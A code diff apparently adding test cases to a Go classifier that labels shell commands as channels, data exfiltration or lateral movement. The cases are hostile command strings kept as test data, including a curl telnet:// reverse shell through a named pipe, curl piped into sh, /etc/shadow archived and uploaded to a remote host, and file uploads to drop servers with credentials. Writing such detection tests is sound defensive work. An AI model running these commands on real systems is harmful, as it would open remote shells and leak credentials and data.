@@ -14,6 +14,25 @@ var classifyCases = []struct {
 	want cmdClass
 }{
 	{"id 2>&1", classNone},
+	// curl's telnet:// is a bare TCP session: fed its stdin (-T .) it is
+	// nc's part in a relay, a channel, where a file or an archive piped
+	// into it, or a file given to -T, goes out
+	{"curl -sN -T . telnet://127.0.0.1:2323", classChannel},
+	{"curl -sN telnet://127.0.0.1:2323 -T -", classChannel},
+	{"f=/dev/shm/.m; mkfifo $f && curl -sN -T . telnet://10.0.0.5:2323 < $f | /bin/sh > $f", classChannel},
+	{"curl -s telnet://10.0.0.5:2323 | sh", classChannel},
+	{"tar czf - /etc/shadow | curl -T - telnet://10.0.0.5:9001", classExfilImpact},
+	{"curl -T /tmp/x.tgz telnet://10.0.0.5:9001", classExfilImpact},
+	{"curl -T . https://example.com/upload/", classExfilImpact},
+	// an archive uploaded with the drop's login is data going out; a
+	// script put on another host with a login is lateral
+	{"curl -sS -T /run/.x.tgz -u scan:Xf7#kq2Lr smb://10.0.0.5:4455/DROP/w.tgz", classExfilImpact},
+	{"curl -F f=@/tmp/db.sql -H 'Authorization: Bearer abc' https://drop.example/in", classExfilImpact},
+	{"curl -T /tmp/x.sh -u admin:pw ftp://10.0.0.7/incoming/", classLateral},
+	// a client asked for its version reaches nobody; ssh -v connects
+	{"ssh -V 2>&1; ls -la /var/tmp /dev/shm", classNone},
+	{"ssh -v deploy@10.0.0.7", classLateral},
+	{"kubectl version; ssh -V", classNone},
 	// an interpreter's name as the start of another word (php-fpm in a
 	// grep pattern, shop-wishlist's web shell recon) is no pipe into it
 	{`ps -eo user,pid,args | grep -E "beanstalk|cron|php-fpm: master" | grep -v grep`, classNone},
